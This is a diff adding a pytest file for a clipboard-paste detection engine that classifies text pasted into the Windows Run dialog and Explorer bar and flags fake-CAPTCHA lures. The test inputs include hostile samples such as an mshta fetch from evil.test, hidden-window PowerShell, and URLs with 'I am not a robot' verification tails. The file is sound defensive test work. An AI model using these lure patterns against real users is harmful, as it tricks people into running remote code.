@@ -1,0 +1,75 @@
+"""The Run dialog and Explorer's address bar: a program, a path or an address, nothing more."""
+
+from __future__ import annotations
+
+import pytest
+
+from app.detection import Context, Engine, Level, PasteTarget
+from app.detection.runbox import Shape, run_box_shape
+
+RUN_BOXES = [PasteTarget.RUN_DIALOG, PasteTarget.EXPLORER_BAR]
+PAGE = "https://docs.example.org/help"
+
+
+@pytest.mark.parametrize(
+    ("text", "shape"),
+    [
+        ("notepad", Shape.PROGRAM),
+        ("appwiz.cpl", Shape.PROGRAM),
+        ("  regedit  ", Shape.PROGRAM),
+        (r"C:\Users\Public\Documents", Shape.PATH),
+        (r"C:\Program Files\Widget Co\Widget", Shape.PATH),
+        (r'"C:\Program Files\Widget Co\report.pdf"', Shape.PATH),
+        (r"\\fileserver\shared\Quarterly", Shape.PATH),
+        (r"%APPDATA%\Microsoft\Windows\Start Menu", Shape.PATH),
+        ("shell:startup", Shape.URL),
+        ("Quarterly report 2024.pdf", Shape.PATH),
+        ("https://intranet.example.org/help", Shape.URL),
+        ("ms-settings:display", Shape.URL),
+        ("cmd /c whoami", Shape.COMMAND),
+        ("notepad C:\\notes.txt && calc", Shape.COMMAND),
+        ("powershell -w h -c calc", Shape.COMMAND),
+        ("mshta https://evil.test/x.hta", Shape.COMMAND),
+        ("https://evil.test/verify ✅ I am not a robot", Shape.COMMAND),
+        ("https://evil.test/a.pdf Verification ID 4821.txt", Shape.COMMAND),
+        ("explorer.exe https://evil.test", Shape.COMMAND),
+        ("notepad\ncalc", Shape.COMMAND),
+        (r"cmd                                        C:\Users\x\report.pdf", Shape.COMMAND),
+        ("", Shape.EMPTY),
+    ],
+)
+def test_run_box_shape(text: str, shape: Shape) -> None:
+    assert run_box_shape(text) is shape
+
+
+@pytest.mark.parametrize("target", RUN_BOXES)
+@pytest.mark.parametrize(
+    "text", ["notepad", r"C:\Users\Public\Documents", "https://intranet.example.org/help"]
+)
+def test_a_program_path_or_address_in_a_run_box_is_not_flagged(
+    engine: Engine, target: PasteTarget, text: str
+) -> None:
+    for source in (None, PAGE):
+        verdict = engine.analyze(text, Context(source=source, target=target))
+        assert verdict.level <= Level.INFO, (text, source, verdict.rule_ids)
+
+
+@pytest.mark.parametrize("target", RUN_BOXES)
+@pytest.mark.parametrize("text", ["cmd /c whoami", "ipconfig /all", "notepad report.txt extra"])
+def test_anything_more_in_a_run_box_is_suspicious_and_from_a_page_malicious(
+    engine: Engine, target: PasteTarget, text: str
+) -> None:
+    assert engine.analyze(text).level <= Level.INFO  # harmless on its own
+    alone = engine.analyze(text, Context(target=target))
+    assert alone.level is Level.SUSPICIOUS, alone.rule_ids
+    assert "PG-CONTEXT-RUN-BOX" in alone.rule_ids
+    from_page = engine.analyze(text, Context(source=PAGE, target=target))
+    assert from_page.level is Level.MALICIOUS, from_page.rule_ids
+    assert "docs[.]example[.]org" in from_page.summary
+
+
+def test_a_url_with_a_fake_verification_tail_in_the_run_box_is_malicious(engine: Engine) -> None:
+    text = "https://files.example.net/invoice.pdf   # I am not a robot - reCAPTCHA Verification ID: 7731"
+    verdict = engine.analyze(text, Context(source=PAGE, target=PasteTarget.RUN_DIALOG))
+    assert verdict.level is Level.MALICIOUS, verdict.rule_ids
+    assert engine.analyze(text, Context(target=PasteTarget.RUN_DIALOG)).flagged
